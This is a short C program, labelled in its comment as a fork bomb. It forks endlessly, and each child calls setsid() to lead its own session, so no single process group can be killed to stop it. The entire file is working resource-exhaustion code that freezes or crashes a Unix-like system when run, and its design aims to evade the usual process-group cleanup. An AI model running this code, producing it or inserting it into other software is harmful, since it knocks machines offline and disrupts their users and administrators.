/* A fork bomb, each of whose children is the head of a session of its own: no process group holds them all. */
#define _GNU_SOURCE
#include <unistd.h>

int main(void) {
    for (;;) {
        if (fork() == 0) {
            setsid();
        }
    }
}
